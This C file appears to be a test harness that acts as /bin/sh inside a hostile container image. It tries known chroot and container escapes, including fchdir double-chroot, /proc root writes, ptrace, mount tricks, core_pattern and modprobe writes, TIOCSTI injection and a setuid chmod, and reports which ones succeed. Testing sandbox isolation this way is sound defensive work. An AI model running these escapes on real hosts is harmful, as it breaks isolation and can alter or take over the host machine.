/* /bin/sh of a hostile image: tries the known ways out of a chroot and of a container, and prints "NAME out" or
   "NAME in". argv is ignored. MARK: a path of the host; a file made there has left the image. Outside of the cage it
   would change this machine: HARMLESS ends it after the ways that only make MARK. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

static void say(const char *name, int out) {
    char line[80];
    int length = snprintf(line, sizeof line, "%s %s\n", name, out ? "out" : "in");
    if (write(1, line, length) < 0) _exit(9);
}

static int leave(void) {
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    int ignored = chroot(".");
    (void)ignored;
    int fd = open(MARK + 1, O_CREAT | O_WRONLY, 0600);
    return fd >= 0;
}

static int written(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    return fd >= 0 && write(fd, text, strlen(text)) > 0;
}

static int writable(const char *path) {
    return !syscall(SYS_faccessat2, AT_FDCWD, path, W_OK, AT_EACCESS);
}

/* A node of /dev/zero (harmless) where the file system lets it be opened: a node of a disk would open, too. */
static int device(void) {
    const char *folders[] = {"", "/dev", "/dev/shm", "/run", "/tmp", "/var/tmp", "/proc/sys", "/sys"};
    int out = 0;
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
        char path[64];
        snprintf(path, sizeof path, "%s/ways-out-zero", folders[i]);
        if (mknod(path, S_IFCHR | 0600, makedev(1, 5))) continue;
        int fd = open(path, O_RDONLY);
        out |= fd >= 0;
        if (fd >= 0) close(fd);
        unlink(path);
    }
    return out;
}

int main(void) {
    int out = 0;
    say("device", device());
    for (int fd = 3; fd < 256; fd++) if (!fchdir(fd)) out |= leave();
    say("fchdir", out);
    mkdir("/dev/shm/x", 0700);
    say("chroot", !chroot("/dev/shm/x") && leave());
#ifdef HARMLESS
    return 0;
#endif
    out = 0;
    for (int pid = 1; pid < 400; pid++) {
        char path[512];
        snprintf(path, sizeof path, "/proc/%d/root%s", pid, MARK);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        out |= fd >= 0;
        if (fd >= 0) close(fd);
    }
    say("proc-root", out);
    out = 0;
    for (int pid = 2; pid < 400; pid++) out |= !ptrace(PTRACE_SEIZE, pid, 0, 0);
    say("ptrace", out);
    out = 0;
    for (int pid = 2; pid < 40000; pid++) out |= pid != getpid() && !kill(pid, 0);
    say("kill", out);
    say("mount", !mount("tmpfs", "/dev/shm", "tmpfs", 0, ""));
    say("remount", !mount("", "/", "", MS_REMOUNT | MS_BIND, ""));
    say("umount", !umount2("/proc", MNT_DETACH));
    say("mknod", !mknod("/dev/shm/disk", S_IFBLK | 0600, makedev(8, 0)));
    say("userns", !unshare(CLONE_NEWUSER));
    say("userns-clone", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) >= 0);
    say("core_pattern", written("/proc/sys/kernel/core_pattern", "|/x"));
    say("modprobe", written("/proc/sys/kernel/modprobe", "/x"));
    say("sysrq", written("/proc/sysrq-trigger", "h"));
    say("proc-write", writable("/proc/bus/pci") || writable("/proc/irq") || writable("/proc/fs"));
    say("keyring", syscall(SYS_add_key, "user", "x", "y", 1, -5) >= 0);
    say("kernel-log", syscall(SYS_syslog, 3, (char[64]){0}, 64) >= 0);
    say("module", syscall(SYS_init_module, "", 0, "") == 0 || errno != EPERM);
    say("bpf", syscall(SYS_bpf, 0, 0, 0) >= 0 || errno != EPERM);
    say("handle", syscall(SYS_open_by_handle_at, -1, 0, 0) >= 0 || errno != EPERM);
    say("tiocsti", !ioctl(0, TIOCSTI, "x"));
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    memcpy(address.sun_path + 1, ABSTRACT, sizeof ABSTRACT - 1);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    say("abstract", !connect(s, (void *)&address, offsetof(struct sockaddr_un, sun_path) + sizeof ABSTRACT));
    say("setuid-file", !chmod("/bin/sh", 04755));
    return 0;
}
